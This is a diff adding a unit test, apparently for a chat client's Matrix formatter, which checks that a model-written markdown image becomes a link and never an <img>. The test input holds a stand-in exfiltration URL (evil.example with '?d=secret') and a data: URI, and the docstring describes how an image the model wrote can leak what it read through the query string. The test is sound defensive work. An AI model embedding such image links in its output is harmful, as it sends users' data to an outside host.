@@ -70,3 +70,15 @@ def test_a_small_edit_is_the_content_with_its_fallback() -> None:
         "m.new_content": content,
         "m.relates_to": {"rel_type": "m.replace", "event_id": "$e"},
     }
+
+
+def test_an_image_the_model_wrote_is_a_link_never_an_img() -> None:
+    """An <img> of any address makes a client that loads it fetch what the model chose
+    (a query string can carry what it read; found by review)."""
+    [content] = contents_of(
+        "see ![chart](https://evil.example/x.png?d=secret), ![x](data:image/png;base64,AAA)"
+    )
+    html = content["formatted_body"]
+    assert "<img" not in html
+    assert '<a href="https://evil.example/x.png?d=secret">chart</a>' in html
+    assert "data:" not in html
